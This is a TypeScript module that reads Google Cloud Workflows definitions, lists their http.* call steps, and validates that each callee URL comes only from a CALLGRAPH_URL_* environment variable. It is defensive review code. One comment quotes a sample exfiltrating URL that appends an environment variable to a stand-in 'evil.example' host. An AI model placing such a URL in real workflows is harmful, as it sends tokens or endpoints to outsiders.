/**
 * What a Workflow's definition calls, read from its parsed document (YAML or JSON, parsed by the caller: this
 * folder does no I/O). A workflow reaches a callee through the URL the program gives it in a user environment
 * variable, `${sys.get_env("CALLGRAPH_URL_BILLING")}`
 * (https://cloud.google.com/workflows/docs/reference/environment-variables#user-defined): the only URLs it is told,
 * as a function is told only its callees' (invariant 4), and the one spelling a reviewer and this check can follow.
 */

/** The user environment variable that holds a callee's URL in a workflow: `CALLGRAPH_URL_` + its name in capitals. */
export function workflowUrlVariable(functionName: string): string {
  return `CALLGRAPH_URL_${functionName.toUpperCase().replace(/-/g, "_")}`;
}

/** One `http.*` call step of a workflow, where it is and what it names. */
export interface WorkflowHttpStep {
  /** Where it is in the document, e.g. `main.steps[1].notify`. */
  readonly at: string;
  /** The `call`, e.g. `http.post`. */
  readonly call: string;
  /** `args.auth.type` as written (`OIDC`, `OAuth2`), or undefined. */
  readonly auth?: string;
  /** `args.auth` is there but not a map (an expression, `${...}`): what it sends cannot be read. */
  readonly opaqueAuth: boolean;
  /** `args.url` is there but not a string. */
  readonly opaqueUrl: boolean;
  /** `args.url` as written, when it is a string. */
  readonly url?: string;
  /** `args.auth.audience` as written, when it is a string. */
  readonly audience?: string;
  /** The `CALLGRAPH_URL_*` variables its URL reads. */
  readonly urlVariables: readonly string[];
  /** The `CALLGRAPH_URL_*` variables its audience reads. */
  readonly audienceVariables: readonly string[];
}

const GET_ENV = /sys\.get_env\(\s*["'](CALLGRAPH_URL_[A-Z0-9_]+)["']\s*\)/g;

/**
 * Every `http.*` call step anywhere in the document: in `main`, in subworkflows, and nested in `steps`, `for`,
 * `parallel` branches, `switch` and `try`/`except`, since each of them is a place a step can call. The walk is
 * generic (any object with a string `call` that starts with `http.`), so a construct added to the syntax later is
 * still read rather than skipped.
 */
export function workflowHttpSteps(document: unknown): WorkflowHttpStep[] {
  const steps: WorkflowHttpStep[] = [];
  const seen = new Set<unknown>();
  const visit = (node: unknown, at: string): void => {
    if (node === null || typeof node !== "object" || seen.has(node)) return;
    seen.add(node);
    if (Array.isArray(node)) {
      node.forEach((item, i) => visit(item, `${at}[${i}]`));
      return;
    }
    const record = node as Record<string, unknown>;
    if (typeof record.call === "string" && record.call.startsWith("http.")) steps.push(stepOf(record, at));
    for (const [key, value] of Object.entries(record)) visit(value, at === "" ? key : `${at}.${key}`);
  };
  visit(document, "");
  return steps;
}

function stepOf(step: Record<string, unknown>, at: string): WorkflowHttpStep {
  const args = recordOf(step.args);
  const auth = recordOf(args.auth);
  const opaqueAuth = args.auth !== undefined && !isRecord(args.auth);
  const opaqueUrl = args.url !== undefined && typeof args.url !== "string";
  const url = typeof args.url === "string" ? args.url : undefined;
  const audience = typeof auth.audience === "string" ? auth.audience : undefined;
  return {
    at,
    call: String(step.call),
    ...(typeof auth.type === "string" ? { auth: auth.type } : {}),
    opaqueAuth,
    opaqueUrl,
    ...(url === undefined ? {} : { url }),
    ...(audience === undefined ? {} : { audience }),
    urlVariables: variablesIn(url),
    audienceVariables: variablesIn(audience),
  };
}

function variablesIn(text: string | undefined): string[] {
  return text === undefined ? [] : [...new Set([...text.matchAll(GET_ENV)].map((m) => m[1]))];
}

function isRecord(value: unknown): boolean {
  return value !== null && typeof value === "object" && !Array.isArray(value);
}

/**
 * Whether `url` is one callee's URL, or that URL and a literal path below it: `${sys.get_env("CALLGRAPH_URL_X")}` or
 * `${sys.get_env("CALLGRAPH_URL_X") + "/path"}`, nothing before the URL. Anything else could send the token elsewhere
 * (`${"https://evil.example/?u=" + sys.get_env(...)}` reads the variable too).
 */
export function calleeUrlShape(url: string | undefined): { variable: string; path: string } | undefined {
  const match = URL_SHAPE.exec(url ?? "");
  if (!match) return undefined;
  return { variable: match[1], path: match[2] ?? "" };
}

const URL_SHAPE =
  /^\$\{\s*sys\.get_env\(\s*["'](CALLGRAPH_URL_[A-Z0-9_]+)["']\s*\)\s*(?:\+\s*"(\/[A-Za-z0-9._~!$&'()*+,;=:@/-]*)"\s*)?\}$/;

function recordOf(value: unknown): Record<string, unknown> {
  return value !== null && typeof value === "object" && !Array.isArray(value)
    ? (value as Record<string, unknown>)
    : {};
}
